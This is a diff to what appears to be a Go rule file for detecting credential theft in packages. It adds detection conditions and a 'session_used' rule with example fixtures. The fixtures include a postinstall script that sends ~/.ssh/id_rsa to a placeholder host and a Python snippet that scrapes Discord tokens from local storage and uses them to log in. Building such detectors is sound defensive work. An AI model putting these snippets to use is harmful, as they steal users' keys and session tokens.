@@ -12,6 +12,8 @@ func theft() []Rule {
 			When: []Condition{
 				{Triggers: unasked, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 				{Triggers: unasked, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: carried},
+				{Triggers: []string{b.Command}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, Script: No},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}},
 			},
 			Examples: []Example{
 				Package("an SSH key", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');fetch('https://c.example',{method:'POST',body:k})"}),
@@ -24,6 +26,16 @@ func theft() []Rule {
 				Package("read for its own use", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');exports.registry=/registry=(.*)/.exec(rc)"}),
 				Package("as authorisation", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');const t=fs.readFileSync('/root/.config/gh/hosts.yml','utf8');fetch('https://api.example',{headers:{authorization:t}})"}),
 				One("a public key installed", "setup.sh", "curl https://keys.example/me.pub >> ~/.ssh/known_hosts\n"),
+			},
+		},
+		{
+			ID: "session_used", Severity: Critical,
+			When: []Condition{{Sources: []string{b.Browser}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"auth"}, Target: Foreign, Script: No}},
+			Examples: []Example{
+				Module("a chat's token, to log in", "import os, re, requests\np = os.getenv('APPDATA')+'\\\\discord\\\\Local Storage\\\\leveldb'\nfor f in os.listdir(p):\n    for t in re.findall(r'[\\w-]{24}', open(p+'/'+f).read()):\n        requests.get('https://chat.example/api/me', headers={'Authorization': t})\n"),
+			},
+			Neighbours: []Example{
+				Module("a token of its own", "import os, requests\ndef me():\n    return requests.get('https://chat.example/api/me', headers={'Authorization': os.environ['CHAT_TOKEN']})\n"),
 			},
 		},
 		{
